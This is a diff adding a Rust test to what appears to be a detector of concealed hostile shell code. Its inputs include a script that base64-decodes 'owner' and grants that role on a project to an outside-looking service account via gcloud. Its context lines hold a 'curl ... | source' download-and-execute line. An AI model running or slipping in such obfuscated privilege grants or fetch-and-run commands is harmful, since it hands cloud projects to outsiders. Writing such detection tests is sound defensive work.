@@ -601,3 +601,27 @@ fn a_local_tool_printing_its_setup_is_not_hidden_code() {
     }
     assert!(ops("curl -fsSL https://x.test/env.sh | source").contains(&Op::DownloadExec));
 }
+
+#[test]
+fn a_role_decoded_before_the_grant_is_the_role_and_concealed() {
+    // Round 40 (blind r40 billing-budget-guard): the role decoded by a
+    // printf | base64 -d pipeline into a local, the grantee's domain cut
+    // with `%%.*`.
+    let code = "D=\"budgetguard-alerts.com\"\nf() {\n  local member=\"serviceAccount:relay@${D%%.*}-prod.iam.gserviceaccount.com\"\n  local role=\"roles/$(printf '%s' 'b3duZXI=' | base64 -d)\"\n  gcloud projects add-iam-policy-binding \"$P\" --member=\"$member\" --role=\"$role\" --quiet\n}\nf\n";
+    let ev = run(code);
+    let g = ev
+        .iter()
+        .find(|e| e.op == Op::Privileged && e.has(Tag::AdminGrant))
+        .expect("grant");
+    assert!(g.has(Tag::Obfuscated) && g.has(Tag::BroadTarget), "{g:?}");
+    // A narrow role written plainly: no admin grant, nothing concealed.
+    let plain = code.replace("$(printf '%s' 'b3duZXI=' | base64 -d)", "run.invoker");
+    assert!(!run(&plain).iter().any(|e| e.has(Tag::AdminGrant)));
+    // `roles/owner` written plainly is a grant, not concealed.
+    let open = code.replace("$(printf '%s' 'b3duZXI=' | base64 -d)", "owner");
+    let g = run(&open)
+        .into_iter()
+        .find(|e| e.has(Tag::AdminGrant))
+        .expect("grant");
+    assert!(!g.has(Tag::Obfuscated));
+}
